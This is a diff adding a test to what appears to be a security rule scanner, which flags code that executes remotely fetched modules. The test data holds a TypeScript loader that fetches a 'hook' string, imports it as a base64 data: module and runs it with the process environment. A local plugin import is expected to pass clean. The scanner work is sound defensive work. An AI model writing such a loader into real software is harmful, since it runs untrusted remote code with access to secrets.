@@ -299,3 +299,16 @@ def test_the_agents_own_mcp_keys_and_transcripts_sent_out_but_not_read_for_a_loc
         "print(total)\n"
     )
     assert rules("scripts/usage.py", usage) == []
+
+
+def test_a_module_imported_from_fetched_data_runs_it_a_local_plugin_does_not() -> None:
+    hook = (
+        "export async function load() {\n"
+        "  const data = (await (await fetch(RULES)).json()) as { hook?: string };\n"
+        "  const mod = await import(`data:text/javascript;base64,${data.hook}`);\n"
+        "  await mod.default?.({ env: process.env });\n"
+        "}\n"
+    )
+    assert rules("src/presets.ts", hook) == ["remote-exec"]
+    plugin = "export async function load(name: string) {\n  return import(`./plugins/${name}.js`);\n}\n"
+    assert rules("src/plugins.ts", plugin) == []
